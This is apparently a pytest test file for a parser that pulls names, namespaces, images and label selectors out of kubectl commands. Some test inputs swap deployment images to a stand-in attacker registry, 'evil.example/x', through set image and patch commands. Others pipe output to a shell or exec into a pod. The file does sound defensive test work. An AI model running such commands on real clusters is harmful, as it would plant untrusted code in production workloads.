from __future__ import annotations

import pytest

from kubecfg_core.kubectl.mentions import mentions

MERGED = '{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example/x"}]}}}}'
REPLACED = '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil.example/x"}]'


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("kubectl get pods", set()),
        ("kubectl get pods -n shop -l app=api", set()),
        ("kubectl describe pod api-1 -n shop", {"api-1"}),
        ("kubectl get deployment/api service/web -n shop", {"api", "web"}),
        ("kubectl logs api-1 app -n shop --previous", {"api-1"}),
        ("kubectl logs deploy/api -n shop", {"api"}),
        ("kubectl rollout undo deployment/api -n shop", {"api"}),
        ("kubectl set image deployment/api app=nginx:1.27 -n shop", {"api"}),
        ("kubectl set serviceaccount deployment/api robot -n shop", {"api", "robot"}),
        ("kubectl create configmap settings --from-literal=a=b -n shop", {"settings"}),
        ("kubectl create secret tls web-tls --cert=tls.crt --key=tls.key -n shop", {"web-tls"}),
        ("kubectl create job now --from=cronjob/nightly -n shop", {"now", "nightly"}),
        ("kubectl label node worker-1 zone=a", {"worker-1"}),
        ("kubectl taint nodes worker-1 dedicated=db:NoSchedule", {"worker-1"}),
        ("kubectl cordon worker-1", {"worker-1"}),
        ("kubectl top pod api-1 -n shop", {"api-1"}),
        ("kubectl explain pod.spec", set()),
        ("kubectl auth can-i get pods", set()),
        ("kubectl get events -n shop --field-selector involvedObject.name=api-1", {"api-1"}),
        ("kubectl events --for=pod/api-1 -n shop", {"api-1"}),
        ("kubectl set resources deployment/api --limits=memory=VALUE -n shop", {"api"}),
    ],
)
def test_the_objects_that_a_command_names(command: str, names: set[str]) -> None:
    found = mentions(command)

    assert found
    assert found.names == names


@pytest.mark.parametrize(
    ("command", "namespaces"),
    [
        ("kubectl get pods -n shop", {"shop"}),
        ("kubectl get pods", set()),
        ("kubectl get pods -A", set()),
        ("kubectl delete pod api-1", {"default"}),
        ("kubectl create configmap settings", {"default"}),
        ("kubectl describe namespace prod", {"prod"}),
        ("kubectl create namespace prod", {"prod"}),
        ("kubectl cordon worker-1", set()),
    ],
)
def test_the_namespaces_that_a_command_names_or_would_change(command: str, namespaces: set[str]) -> None:
    found = mentions(command)

    assert found
    assert found.namespaces == namespaces


@pytest.mark.parametrize(
    ("command", "image"),
    [
        ("kubectl set image deployment/api app=evil.example/x:1 -n shop", "evil.example/x:1"),
        ("kubectl create job now --image=evil.example/x -n shop", "evil.example/x"),
        (
            f"kubectl patch deployment api -n shop -p '{MERGED}'",
            "evil.example/x",
        ),
        (
            f"kubectl patch deployment api -n shop --type=json -p '{REPLACED}'",
            "evil.example/x",
        ),
    ],
)
def test_the_images_that_a_command_brings_in(command: str, image: str) -> None:
    found = mentions(command)

    assert found
    assert found.images == {image}


def test_what_a_change_chooses_by_a_label() -> None:
    found = mentions("kubectl delete pods -n shop -l app=api,tier=web")

    assert found
    assert found.selects == {"api", "web"}


@pytest.mark.parametrize("command", ["curl http://x", "kubectl exec api-1 -- sh", "kubectl get pods | sh", ""])
def test_what_is_no_command_of_the_table_mentions_nothing(command: str) -> None:
    assert mentions(command) is None
